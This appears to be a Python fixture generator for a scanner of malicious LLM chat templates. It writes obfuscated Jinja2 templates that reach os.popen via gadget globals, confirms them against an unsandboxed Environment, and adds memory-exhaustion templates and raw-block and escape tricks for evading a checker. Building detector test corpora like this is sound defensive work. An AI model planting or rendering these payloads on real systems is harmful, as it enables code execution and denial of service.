#!/usr/bin/env python3
"""Write the malicious chat templates of issue 23's class 2 and confirm each against Jinja2.

Every template here hides what it does from a reader of its text: the dunder names are built while
it renders, the gadget globals are renamed, or the harm is unbounded work inside the sandbox. Each
code-running one is rendered with jinja2's plain Environment (no sandbox, as llama-cpp-python up to
0.2.71 rendered GGUF templates, CVE-2024-34359) and must print the output of a shell command; each
memory one is rendered in jinja2's ImmutableSandboxedEnvironment (what transformers uses) at a small
scale and must grow as asked. Run by hand (needs jinja2); the tests only read the files and
manifest.json. Expected verdicts: "dangerous" for the code-running ones, "suspicious" at least for
the memory ones.
"""
import json
import os

import jinja2
from jinja2.sandbox import ImmutableSandboxedEnvironment

OUT = os.path.dirname(os.path.abspath(__file__))
MARK = "PWNED-BY-TEMPLATE"
CMD = f"echo {MARK}"

# name -> (template, verdict); {CMD} is the shell command each code-running template runs
CODE = {
    # a variable holding "_", joined at render time; the gadget renamed
    "set-underscore-concat": """{% set c = cycler %}{% set u = "_" %}{{ c[u ~ u ~ "init" ~ u ~ u][u ~ u ~ "globals" ~ u ~ u].os.popen("CMD").read() }}""",
    # printf-style format builds the dunder
    "format-percent-c": """{% set j = joiner %}{% set d = '%c%c'|format(95, 95) %}{{ j[d ~ 'init' ~ d][d ~ 'globals' ~ d]['os'].popen('CMD').read() }}""",
    # a list joined
    "join-list": """{% set c = cycler %}{% set d = ['_', '_']|join %}{% set g = c[d + 'init' + d][d + 'globals' + d] %}{{ g.os.popen('CMD').read() }}""",
    # the gadget renamed, names joined from pieces
    "renamed-gadget": """{% set c = cycler %}{% set u = '_' %}{% set i = [u, u, 'init', u, u]|join %}{% set g = [u, u, 'globals', u, u]|join %}{{ c[i][g]['os'].popen('CMD').read() }}""",
    # replace builds the name from harmless letters
    "replace-filter": """{% set n = namespace %}{% set i = 'xxinitxx'|replace('x', '_') %}{% set g = 'xxglobalsxx'|replace('x', '_') %}{{ n[i][g].os.popen('CMD').read() }}""",
    # reverse of a reversed name
    "reverse-filter": """{% set c = cycler %}{% set i = 'xxtinixx'|reverse|replace('x', '_') %}{% set g = 'xxslabolgxx'|reverse|replace('x', '_') %}{{ c[i][g]['os'].popen('CMD').read() }}""",
    # the names arrive through a namespace attribute set in a loop
    "loop-built-names": """{% set c = cycler %}{% set ns = namespace(p=[]) %}{% for w in ['init', 'globals'] %}{% set ns.p = ns.p + [('%c' % 95) * 2 ~ w ~ ('%c' % 95) * 2] %}{% endfor %}{{ c[ns.p[0]][ns.p[1]].os.popen('CMD').read() }}""",
    # a macro returns the dunder
    "macro-built-name": """{% set j = joiner %}{% macro d(w, u) %}{{ u ~ u ~ w ~ u ~ u }}{% endmacro %}{{ j[d('init', '_')|trim][d('globals', '_')|trim].os.popen('CMD').read() }}""",
    # the attr filter fed a computed name, on an alias of a gadget
    "attr-computed": """{% set u = '_' * 2 %}{% set c = cycler %}{{ (c|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u))['os'].popen('CMD').read() }}""",
    # a string method builds the name (format on a string object)
    "str-format-method": """{% set c = cycler %}{% set d = '{0}{0}'.format('_') %}{{ c[d ~ 'init' ~ d][d ~ 'globals' ~ d].os.popen('CMD').read() }}""",
    # the underscore is a dict value read back by a computed key
    "dict-key-index": """{% set c = cycler %}{% set t = {'a': '_'} %}{% set k = 'a' %}{% set d = t[k] ~ t[k] %}{{ c[d ~ 'init' ~ d][d ~ 'globals' ~ d].os.popen('CMD').read() }}""",
    # self's private context, reached by a built name
    "self-private": """{% set u = '_' %}{% set p = u ~ 'TemplateReference' ~ u ~ u ~ 'context' %}{{ self[p].environment.globals['cycler'][u ~ u ~ 'init' ~ u ~ u][u ~ u ~ 'globals' ~ u ~ u].os.popen('CMD').read() }}""",
    # lower of an upper-case name
    "lower-filter": """{% set c = cycler %}{% set u = '_' %}{% set i = (u ~ u ~ 'INIT' ~ u ~ u)|lower %}{% set g = (u ~ u ~ 'GLOBALS' ~ u ~ u)|lower %}{{ c[i][g].os.popen('CMD').read() }}""",
    # review 37: Jinja2 decodes string literals as Python's unicode-escape codec; minijinja kept
    # \U, \N{...} and a backslash-newline as text, so the names showed no "_"
    "escape-long-u": r"""{% set c = cycler %}{{ c["\U0000005f\U0000005finit\U0000005f\U0000005f"]["\U0000005f\U0000005fglobals\U0000005f\U0000005f"].os.popen("CMD").read() }}""",
    "escape-named": r"""{% set c = cycler %}{{ c["\N{LOW LINE}\N{low line}init\N{LOW LINE}_"]["\N{LOW LINE}_globals__"].os.popen("CMD").read() }}""",
    "escape-mixed": """{% set c = joiner %}{{ c['\\137\\x5finit\\u005f\\N{LOW LINE}']['_\\\n_globals\\\n__'].os.popen('CMD').read() }}""",
    # review 37: Jinja2 ends a raw block at an endraw tag spelled with any Python whitespace
    # (\s: U+00A0, \x0b, \x1c-\x1f, U+2000...); minijinja only at ASCII whitespace, so the code
    # between it and the next endraw was raw text to the check
    "raw-end-nbsp": """{% raw %}<|im_end|>{%\u00a0endraw %}{{ cycler.__init__.__globals__.os.popen('CMD').read() }}{% raw %}{% endraw %}""",
    "raw-end-vt": """{% raw %}x{%-\x0bendraw\x1c-%}{{ joiner.__init__.__globals__.os.popen('CMD').read() }}{% raw %}{% endraw %}""",
    "raw-end-em-space": """{% raw %}x{%+\u2003endraw\u3000+%}{% set c = cycler %}{{ c.__init__.__globals__.os.popen('CMD').read() }}{% raw %}{% endraw %}""",
}

# memory exhaustion inside the sandbox: (template, small template to confirm, how to check)
MEMORY = {
    "string-repeat": ("{{ 'A' * 4000000000 }}", "{{ 'A' * 4000000 }}", 4000000),
    "string-repeat-computed": (
        "{% set n = 40000 %}{{ ('A' * n) * n }}",
        "{% set n = 2000 %}{{ ('A' * n) * n }}",
        4000000,
    ),
    "nested-range": (
        "{% for i in range(99999) %}{% for j in range(99999) %}{% for k in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}",
        "{% for i in range(2000) %}{% for j in range(2000) %}x{% endfor %}{% endfor %}",
        4000000,
    ),
    "list-repeat": ("{{ ([1] * 1000000000)|length }}", "{{ ([1] * 4000000)|length }}", None),
}


def confirm_code(name, t):
    env = jinja2.Environment(extensions=["jinja2.ext.loopcontrols"])
    out = env.from_string(t).render(messages=[], bos_token="<s>", eos_token="</s>")
    assert MARK in out, f"{name}: did not run the command: {out!r}"
    # transformers renders in the sandbox, which refuses it
    try:
        ImmutableSandboxedEnvironment().from_string(t).render(messages=[])
        sandbox = "rendered"
    except Exception as e:  # noqa: BLE001 - any refusal is the sandbox's answer
        sandbox = type(e).__name__
    return sandbox


def confirm_memory(name, small, size):
    out = ImmutableSandboxedEnvironment().from_string(small).render()
    if size is None:
        assert out.strip() == "4000000", f"{name}: {out[:50]!r}"
    else:
        assert len(out) >= size, f"{name}: only {len(out)} characters"


def main():
    manifest = []
    for name, t in CODE.items():
        t = t.replace("CMD", CMD)
        sandbox = confirm_code(name, t)
        with open(os.path.join(OUT, name + ".jinja"), "w") as f:
            f.write(t)
        manifest.append({"file": name + ".jinja", "verdict": "dangerous", "confirmed": f"jinja2 {jinja2.__version__} Environment printed {MARK}; sandbox: {sandbox}"})
    for name, (t, small, size) in MEMORY.items():
        confirm_memory(name, small, size)
        with open(os.path.join(OUT, name + ".jinja"), "w") as f:
            f.write(t)
        manifest.append({"file": name + ".jinja", "verdict": "suspicious", "confirmed": f"jinja2 {jinja2.__version__} ImmutableSandboxedEnvironment renders {small!r}"})
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    print(f"{len(manifest)} templates confirmed")


if __name__ == "__main__":
    main()
